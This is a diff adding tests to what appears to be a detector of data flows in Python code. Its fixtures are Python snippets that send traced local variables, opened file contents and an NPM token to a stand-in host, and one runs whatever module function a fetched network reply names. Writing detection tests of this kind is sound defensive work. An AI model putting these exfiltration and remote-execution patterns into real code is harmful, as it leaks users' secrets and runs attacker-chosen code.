@@ -39,3 +39,33 @@ test.each<[string, Way, string]>([
 ])('%s is left alone', async (_, way, text) => {
   expect(await flows(text, way)).toEqual([]);
 });
+
+const SENDS = 'urllib.request.urlopen("https://h.example.invalid", repr(LEAF).encode())';
+const watches = async (text: string) => await flows(`import sys, urllib.request\n${text}\n`, ['observation', 'network']);
+
+test.each<[string, string]>([
+  ['that traces is told of the variables of the code around', `def look(frame, event, arg):\n    ${SENDS.replace('LEAF', 'frame.f_locals')}\nsys.settrace(look)`],
+  ['of an object that profiles is told of them', `class Look:\n    def __call__(self, frame, event, arg):\n        ${SENDS.replace('LEAF', '{name: repr(value) for name, value in frame.f_locals.items()}')}\nsys.setprofile(Look())`],
+  ['that audits is told what others open', `def look(event, args):\n    ${SENDS.replace('LEAF', 'open(args[0]).read()')}\nsys.addaudithook(look)`],
+])('a function %s', async (_, text) => {
+  expect(await watches(text)).toContain('import');
+});
+
+test('where a function is called is no secret of anybody', async () => {
+  expect(await watches(`def look(frame, event, arg):\n    ${SENDS.replace('LEAF', 'frame.f_code.co_name')}\nsys.setprofile(look)`)).toEqual([]);
+});
+
+test.each<[string, string]>([
+  ['by its class', 'Bed().leaf'],
+  ['by its class, asked by a text', 'getattr(Bed(), "leaf")'],
+])('an attribute that is made up %s is what is given for it', async (_, asked) => {
+  expect(await flows(`import requests\nclass Bed:\n    def __getattr__(self, name): return ${REPLY}\nexec(${asked})\n`, ['network', 'exec'])).toContain('import');
+});
+
+test('any function of any module is what a reply names', async () => {
+  expect(await flows(`import importlib, requests\nleaf = requests.get("https://h.example.invalid").json()\ngetattr(importlib.import_module(leaf["bed"]), leaf["tool"])(*leaf["with"])\n`, ['network', 'exec'])).toContain('import');
+});
+
+test('the name of a key is one however it is put together', async () => {
+  expect(await flows(`import os, urllib.request\nurllib.request.urlopen("https://h.example.invalid/" + os.environ.get("npm_token".upper()))\n`, ['key', 'network'])).toContain('import');
+});
